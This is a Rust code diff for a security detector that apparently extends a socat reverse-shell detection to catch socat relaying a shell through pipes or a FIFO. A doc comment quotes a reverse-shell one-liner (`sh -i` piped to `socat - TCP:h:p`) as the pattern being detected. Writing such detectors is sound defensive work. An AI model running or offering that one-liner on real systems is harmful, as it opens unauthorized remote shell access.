@@ -45,6 +45,12 @@ pub enum SocatEvidence {
         /// The program's pid.
         child_pid: u32,
     },
+    /// It feeds this shell through pipes or a FIFO (socat without EXEC: `sh -i <f 2>&1 |
+    /// socat - TCP:h:p >f`).
+    WiredShell {
+        /// The shell's pid.
+        shell_pid: u32,
+    },
 }
 
 impl Render for SocatEvidence {
@@ -58,6 +64,7 @@ impl Render for SocatEvidence {
                 }
             }
             SocatEvidence::Started { child_pid } => put(props, "Socat_Child_Pid", *child_pid),
+            SocatEvidence::WiredShell { shell_pid } => put(props, "Socat_Wired_Shell_Pid", *shell_pid),
         }
     }
 }
@@ -67,7 +74,23 @@ pub struct SocatShell;
 
 impl Detector for SocatShell {
     fn on_event(&mut self, ctx: &Ctx<'_>, out: &mut Vec<Detection>) {
-        if !matches!(ctx.event.body, EventBody::Exec(_)) || !ctx.in_scope(DetectionId::SocatReverseShell) {
+        if !ctx.in_scope(DetectionId::SocatReverseShell) {
+            return;
+        }
+        // A socat without EXEC wired to a shell that runs what it reads, found by the exec or
+        // connection that completed the loop.
+        for w in ctx.wired.iter().filter(|w| w.tool == ToolKind::Socat) {
+            let mut d = ctx.detection(
+                DetectionId::SocatReverseShell,
+                w.relay,
+                format!("socat (pid {}) feeds a shell (pid {}) through pipes", w.relay.pid, w.shell.pid),
+            );
+            d.process = w.relay;
+            (d.connection, d.peer) = ctx.relay_evidence(w.relay);
+            d.evidence = Evidence::Socat(SocatEvidence::WiredShell { shell_pid: w.shell.pid });
+            out.push(d);
+        }
+        if !matches!(ctx.event.body, EventBody::Exec(_)) {
             return;
         }
         let p = ctx.process;
